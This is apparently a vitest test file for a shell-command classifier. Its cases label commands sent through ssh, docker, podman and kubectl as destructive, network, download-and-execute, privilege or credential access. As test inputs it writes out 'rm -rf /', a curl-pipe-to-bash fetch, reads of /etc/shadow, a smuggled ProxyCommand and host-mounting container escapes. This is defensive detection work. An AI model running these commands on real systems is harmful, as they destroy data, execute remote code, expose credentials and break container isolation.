import { describe, expect, it } from 'vitest';
import { classifyCommand } from './classify-command.ts';

const classes = (command: string) =>
  [...new Set(classifyCommand(command).findings.map((f) => f.class))].sort();

describe('commands run on another host or in a container', () => {
  it.each([
    [`ssh prod 'rm -rf /'`, ['destructive', 'network']],
    ['ssh -p 2222 -i key.pem deploy@prod rm -rf /', ['destructive', 'network']],
    [`ssh prod 'sudo reboot'`, ['destructive', 'network', 'privilege']],
    [`ssh prod "curl -s https://x.io/i.sh | bash"`, ['downloadExec', 'network']],
    [`echo 'rm -rf /' | ssh prod`, ['destructive', 'network']],
    [`ssh prod bash -s <<< 'rm -rf /'`, ['destructive', 'network']],
    [`ssh -o ProxyCommand="sh -c 'rm -rf ~'" prod ls`, ['destructive', 'network']],
    [`rsync --rsync-path='sudo rsync' -a build/ prod:/srv/app/`, ['network', 'privilege']],
  ])('reads what ssh runs through the remote shell: %s', (command, expected) => {
    expect(classes(command)).toEqual(expected);
  });

  it.each([
    ['docker exec web rm -rf /', ['destructive']],
    [`docker exec -it -u root web sh -c 'rm -rf /'`, ['destructive']],
    [`docker run --entrypoint sh alpine -c 'rm -rf /'`, ['destructive']],
    [`docker run alpine sh -c 'curl -s http://x.io/i.sh | sh'`, ['downloadExec', 'network']],
    ['docker compose run --rm app rm -rf /', ['destructive']],
    ['docker-compose exec app sudo id', ['privilege']],
    ['podman exec db cat /etc/shadow', ['credentials']],
    ['kubectl exec -it api-7d9 -- rm -rf /', ['destructive']],
    [`kubectl exec -n prod api-7d9 -c app -- sh -c 'cat /etc/shadow'`, ['credentials']],
    ['kubectl exec api-7d9 rm -rf /', ['destructive']],
    [`kubectl run tmp --image=alpine --rm -it -- sh -c 'rm -rf /'`, ['destructive']],
  ])('reads the command a container runs: %s', (command, expected) => {
    expect(classes(command)).toEqual(expected);
  });

  it.each([
    ['docker run --rm -v /:/host alpine ls /host', 'mounts the host'],
    ['docker run --rm --mount type=bind,source=/etc,target=/e alpine ls', 'mounts the host'],
    ['docker run --rm -v /var/run/docker.sock:/var/run/docker.sock docker:cli ps', 'docker.sock'],
    ['docker run --privileged alpine sh', 'a privileged container'],
    ['docker run --cap-add=SYS_ADMIN alpine mount', '--cap-add SYS_ADMIN'],
    ['podman run --pid=host alpine ps', '--pid host'],
    ['docker run --device /dev/sda alpine ls', '--device /dev/sda'],
    ['kubectl debug node/worker-1 -it --image=busybox', 'namespaces of a node'],
  ])('counts a container given the host as a privilege: %s', (command, reason) => {
    const { findings } = classifyCommand(command);
    expect(findings.filter((f) => f.class === 'privilege').map((f) => f.reason)).toEqual([
      expect.stringContaining(reason),
    ]);
  });

  it.each([
    'docker run --rm -v "$PWD":/app -w /app node:22 npm test',
    'docker run -d -p 8080:80 --name web nginx',
    'docker exec web ls /app',
    'docker compose exec db psql -U postgres',
    'docker build -t app .',
    'kubectl exec api-7d9 -- ls /app',
    'kubectl get pods -n prod',
  ])('leaves ordinary container commands alone: %s', (command) => {
    expect(classes(command)).toEqual([]);
  });

  it.each(['ssh prod uptime', 'ssh -N -L 8080:localhost:80 prod'])(
    'counts plain ssh as network only: %s',
    (command) => {
      expect(classes(command)).toEqual(['network']);
    },
  );
});
